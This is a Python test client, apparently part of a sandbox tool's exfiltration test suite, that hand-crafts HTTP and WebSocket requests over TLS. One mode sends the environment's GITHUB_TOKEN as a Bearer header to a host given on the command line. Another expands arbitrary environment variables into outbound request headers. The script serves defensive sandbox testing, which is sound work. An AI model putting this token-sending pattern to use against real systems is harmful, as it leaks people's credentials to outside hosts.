"""A hostile workload's client for tests/exfil.rs, run inside a sandbox.

It speaks HTTP/1.1 over TLS by hand (trusting the CA bundle `veil run` points SSL_CERT_FILE
at), so that it sends exactly what the test says and shows every byte that comes back:

    exfil_client.py raw IP PORT SNI REQUEST_LINE [HEADER...]
        sends the request (headers with $VARS expanded, then an empty line) and writes the
        raw response, up to the connection's end, to stdout
    exfil_client.py ws IP PORT SNI PATH
        opens a WebSocket with `Authorization: Bearer $GITHUB_TOKEN`, reads until the end,
        and prints JSON: {"status": the status line, "frames": [[opcode, payload], ...],
        "raw": every byte after the handshake}, bytes as latin-1 text
"""

import json
import os
import socket
import ssl
import sys


def connect(ip, port, sni):
    context = ssl.create_default_context()
    context.set_alpn_protocols(["http/1.1"])
    tcp = socket.create_connection((ip, int(port)), timeout=60)
    return context.wrap_socket(tcp, server_hostname=sni)


def read_to_end(conn):
    chunks = []
    while True:
        try:
            data = conn.recv(65536)
        except (ssl.SSLError, ConnectionResetError):
            break
        if not data:
            break
        chunks.append(data)
    return b"".join(chunks)


def raw(ip, port, sni, line, *headers):
    conn = connect(ip, port, sni)
    lines = [line] + [os.path.expandvars(h) for h in headers]
    conn.sendall(("\r\n".join(lines) + "\r\n\r\n").encode())
    sys.stdout.buffer.write(read_to_end(conn))


def frames(data):
    out = []
    while len(data) >= 2:
        opcode, length = data[0] & 0x0F, data[1] & 0x7F
        start = 2
        if length == 126:
            length, start = int.from_bytes(data[2:4], "big"), 4
        elif length == 127:
            length, start = int.from_bytes(data[2:10], "big"), 10
        out.append([opcode, data[start : start + length].decode("latin-1")])
        data = data[start + length :]
    return out


def ws(ip, port, sni, path):
    conn = connect(ip, port, sni)
    request = (
        f"GET {path} HTTP/1.1\r\nHost: {sni}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
        f"Authorization: Bearer {os.environ['GITHUB_TOKEN']}\r\n\r\n"
    )
    conn.sendall(request.encode())
    data = read_to_end(conn)
    head, _, rest = data.partition(b"\r\n\r\n")
    status = head.split(b"\r\n")[0].decode("latin-1")
    print(json.dumps({"status": status, "frames": frames(rest), "raw": rest.decode("latin-1")}))


if __name__ == "__main__":
    mode, args = sys.argv[1], sys.argv[2:]
    {"raw": raw, "ws": ws}[mode](*args)
